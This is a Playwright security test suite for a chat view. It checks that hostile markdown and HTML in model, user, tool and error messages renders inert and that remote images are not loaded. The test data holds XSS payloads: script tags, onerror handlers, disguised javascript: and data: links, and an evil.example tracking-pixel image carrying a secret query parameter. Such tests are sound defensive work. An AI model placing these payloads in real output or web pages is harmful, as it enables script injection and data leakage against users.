import assert from 'node:assert/strict';
import type { Page } from 'playwright-core';
import type { ChatViewHarness, HarnessWindow } from '../support/chatViewHarness';
import { assistant, conversation, deltas, error, tool, user } from '../support/chatFixtures';

const payloads = [
  '<img src=x onerror="window.__xss=1">',
  '<script>window.__xss=2</script>',
  '[x](javascript:window.__xss=3)',
  '<a href="javascript:window.__xss=4">click me</a>',
].join('\n\n');

async function assertNothingRan(page: Page): Promise<void> {
  await page.waitForTimeout(100);
  assert.equal(await page.evaluate(() => (window as unknown as HarnessWindow).__xss), undefined);
  assert.equal(await page.locator('#messages script, #messages iframe, #messages object, #messages style').count(), 0);
  assert.equal(await page.locator('#messages img[onerror], #messages [onerror], #messages [onclick]').count(), 0);
  assert.equal(await page.locator('#messages a[href^="javascript:" i]').count(), 0);
}

export function securitySpecs(harness: () => ChatViewHarness): void {
  it('renders hostile model markdown inert, streamed or whole', async () => {
    const view = await harness().open();
    const { page } = view;
    await view.deliver(conversation([assistant('a1', payloads)], { running: true }), { type: 'itemAdded', item: assistant('a2', '') });
    await view.deliver(...deltas('a2', payloads, 5));
    await view.nextFrame();
    await assertNothingRan(page);
    assert.equal(await page.locator('#messages img').count(), 0);
    assert.match(await page.locator('[data-item-id="a2"] .markdown').innerText(), /<script>window.__xss=2<\/script>/, 'raw HTML shows as text');

    for (const link of await page.locator('#messages a').all()) await link.click();
    await assertNothingRan(page);
    assert.deepEqual(await view.postedOfType('openLink'), [], 'no dangerous link is offered to the extension');
    assert.equal(page.url(), `${harness().server.origin}/`);
  });

  it('keeps hostile tool results, thinking, user text and errors as plain text', async () => {
    const view = await harness().open();
    const { page } = view;
    await view.deliver(conversation([
      user('u1', payloads),
      assistant('a1', 'ok', payloads),
      tool('t1', { status: 'done', title: '<img src=x onerror="window.__xss=5">', arguments: '{"path":"<script>window.__xss=6</script>"}', result: payloads }),
      error('e1', payloads, true),
    ]));
    await page.locator('.tool-card summary').click();
    await page.locator('.thinking summary').click();
    await assertNothingRan(page);
    assert.equal(await page.locator('.tool-result').innerText(), payloads);
    assert.equal(await page.locator('.thinking-text').innerText(), payloads);
    assert.equal(await page.locator('.error-message').innerText(), payloads);
    assert.equal(await page.locator('#messages img, #messages a').count(), 0);
  });

  it('drops unsafe link schemes and never loads remote images', async () => {
    const view = await harness().open();
    const { page } = view;
    const markdown = [
      '[a](JaVaScRiPt:window.__xss=7)',
      '[b](java&#x09;script:window.__xss=8)',
      '[c](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
      '[d](vbscript:msgbox)',
      '[e](//evil.example/path)',
      '[ok](https://example.com/)',
      '![tracker](https://evil.example/pixel.png?secret=1)',
      '![inline](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==)',
    ].join('\n\n');
    await view.deliver(conversation([assistant('a1', markdown)]));
    await assertNothingRan(page);
    assert.deepEqual(
      await page.locator('#messages a[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href'))),
      ['https://example.com/', 'https://evil.example/pixel.png?secret=1'],
      'only the safe link and the remote image, shown as a link, keep an address',
    );
    assert.equal(await page.locator('#messages img').count(), 1, 'only the inline image is an image');
    assert.match((await page.locator('#messages img').getAttribute('src')) ?? '', /^data:image\/png;base64,/);
    for (const link of await page.locator('#messages a').all()) await link.click();
    await assertNothingRan(page);
    assert.deepEqual((await view.postedOfType('openLink')).map((message) => message.href), ['https://example.com/', 'https://evil.example/pixel.png?secret=1']);
    assert.deepEqual(await view.cspViolations(), []);
    assert.deepEqual(view.blockedRequests, [], 'nothing was fetched from elsewhere');
  });
}
